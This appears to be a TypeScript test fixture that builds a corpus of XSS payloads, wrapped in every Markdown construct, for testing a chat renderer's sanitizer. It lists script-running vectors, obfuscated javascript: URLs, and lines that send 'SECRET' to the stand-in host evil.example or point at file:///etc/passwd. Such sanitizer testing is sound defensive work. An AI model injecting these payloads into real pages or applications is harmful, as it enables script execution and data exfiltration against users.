const wrappings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Text ${vector} text`,
  (vector) => `- ${vector}`,
  (vector) => `> ${vector}`,
  (vector) => `| a |\n|---|\n| ${vector.replaceAll('|', '\\|')} |`,
  (vector) => `# ${vector}`,
  (vector) => `\`\`\`html\n${vector}\n\`\`\``,
  (vector) => `[${vector}](https://example.org/)`,
  (vector) => `\`${vector}\``,
  (vector) => `\`\`\`${vector}\nx\n\`\`\``,
  (vector) => `\`\`\`mermaid\ngraph TD; A["${vector}"]\nclick A "${vector}"\n\`\`\``,
  (vector) => `$$\n\\text{${vector}}\n$$`,
  (vector) => `A \\(${vector}\\) b`,
  (vector) => `A[^${vector}][^n]\n\n[^n]: ${vector}\n\n[^${vector}]: x`,
  (vector) => `<details>\n<summary>${vector}</summary>\n\n${vector}\n\n</details>`,
  (vector) => `<sub>${vector}</sub><kbd>${vector}`,
]

/** Payloads that ran scripts or called home in chat programs: every vector in every wrapping that Markdown has. For tests only. */
export const xssCorpus: readonly string[] = [
  ...vectors().flatMap((vector) => wrappings.map((wrap) => wrap(vector))),
  ...hrefs().flatMap((href) => [
    `[click](${href})`,
    `[click](<${href}>)`,
    `[a][r]\n\n[r]: ${href}`,
    `<${href}>`,
    `![x](${href})`,
    `![x][r]\n\n[r]: ${href}`,
  ]),
]

function vectors(): readonly string[] {
  const run = 'window.pwned=1'
  const home = 'https://evil.example/p.png?d=SECRET'
  return [
    `<script>${run}</script>`,
    `<script src="${home}"></script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<img src=x onerror="${run}">`,
    `<img src="${home}">`,
    `<img srcset="${home} 1x">`,
    `<picture><source srcset="${home}"><img></picture>`,
    `<svg onload=${run}>`,
    `<svg><image href="${home}"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="${home}"></object>`,
    `<embed src="${home}">`,
    `<video src="${home}" onerror=${run} autoplay></video>`,
    `<audio src="${home}" onerror=${run}></audio>`,
    `<body onload=${run}>`,
    `<details open ontoggle=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<marquee onstart=${run}>`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="${home}" ping="${home}">x</a>`,
    `<form action="${home}"><button>x</button></form>`,
    `<button formaction="javascript:${run}">x</button>`,
    `<meta http-equiv="refresh" content="0;url=${home}">`,
    `<link rel="stylesheet" href="${home}">`,
    `<link rel="dns-prefetch" href="//evil.example">`,
    `<link rel="preconnect" href="https://evil.example">`,
    `<base href="https://evil.example/">`,
    `<style>@import url(${home});</style>`,
    `<style>body{background:url(${home})}</style>`,
    `<p style="background:url(${home})">x</p>`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${run}>`,
    `"><img src=x onerror=${run}>`,
    `</textarea><img src=x onerror=${run}>`,
    `\u202e<img src=x onerror=${run}>`,
  ]
}

function hrefs(): readonly string[] {
  const run = 'window.pwned=1'
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java&#x73;cript:${run}`,
    `&#106;avascript:${run}`,
    `javascript&colon;${run}`,
    `\u0001javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:image/svg+xml,<svg/onload=${run}>`,
    `vbscript:${run}`,
    'file:///etc/passwd',
    'blob:https://evil.example/x',
    'app://parley/',
    'parley://open',
    '//evil.example/x',
    '/etc/passwd',
    'https://user:pass@evil.example/',
    'ws://evil.example/',
    'https://evil.example/p.png?d=SECRET',
  ]
}
